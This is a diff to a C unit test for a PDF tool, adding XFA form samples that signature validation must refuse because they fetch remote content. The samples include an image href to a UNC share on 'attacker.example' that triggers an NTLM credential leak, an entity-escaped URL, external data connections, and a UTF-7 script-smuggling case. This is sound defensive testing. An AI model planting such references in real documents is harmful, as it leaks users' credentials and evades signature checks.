@@ -188,6 +188,31 @@ START_TEST(signed_xfa_form_with_scripts_refused)
 		{ "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-template+AD4-+ADw-script+AD4-app."
 		  "alert(1)+ADw-/script+AD4-+ADw-/template+AD4-",
 		  "encoding UTF-7" },
+		/* sec51: what the form shows or reads from elsewhere, whatever was signed: a
+		   prototype from another file, an image from a share (NTLM) or a web server,
+		   a ':' written as an entity, and the data connections an <execute> or a
+		   field's <connect> reaches */
+		{ "<template><subform><field name=\"amount\" "
+		  "usehref=\"https://forms.example/terms.xdp#som($template.amount)\"/></subform>"
+		  "</template>",
+		  "XFA usehref" },
+		{ "<template><subform><draw><value><image "
+		  "href='\\\\attacker.example\\share\\seal.png'/></value></draw></subform>"
+		  "</template>",
+		  "XFA href" },
+		{ "<template><draw><value><image href=\"http://img.example/seal.png\"/></value>"
+		  "</draw></template>",
+		  "XFA href" },
+		{ "<template><draw><value><x:image xmlns:x=\"x\" x:href=\"http&#58;//img.example/"
+		  "\"/></value></draw></template>",
+		  "XFA href" },
+		{ "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><connectionSet><wsdlConnection "
+		  "name=\"rates\"><soapAddress>https://rates.example/ws</soapAddress>"
+		  "</wsdlConnection></connectionSet></xdp:xdp>",
+		  "XFA <connectionSet>" },
+		{ "<sourceSet><source name=\"db\"><connect><connectString>Provider=SQLOLEDB"
+		  "</connectString></connect></source></sourceSet>",
+		  "XFA <sourceSet>" },
 	};
 	struct pdf_normalized n;
 	struct sp_errinfo ei;
@@ -200,9 +225,12 @@ START_TEST(signed_xfa_form_with_scripts_refused)
 		ck_assert_msg(strstr(ei.msg, refused[i].named) != NULL, "case %zu: %s", i, ei.msg);
 		ck_assert_ptr_null(n.data);
 	}
-	/* a form that runs nothing (a <scripts> element is no <script>) */
+	/* a form that runs nothing (a <scripts> element is no <script>), and uses within
+	   itself, an image by the relative name Designer looks up in /XFAImages */
 	ck_assert_msg(signed_xfa("<?xml version=\"1.0\" encoding=\"UTF-8\"?><template><subform "
-				 "name=\"scripts\"><field name=\"a\"/></subform></template>",
+				 "name=\"scripts\"><field name=\"a\" usehref=\"#f1\"/><field "
+				 "name=\"b\" usehref=\".#som($template.a)\"/><draw><value><image "
+				 "href=\"images/seal:1.png\"/></value></draw></subform></template>",
 				 &n, &ei) == SP_OK,
 		      "%s", ei.msg);
 	ck_assert_int_eq(n.kept, 1);
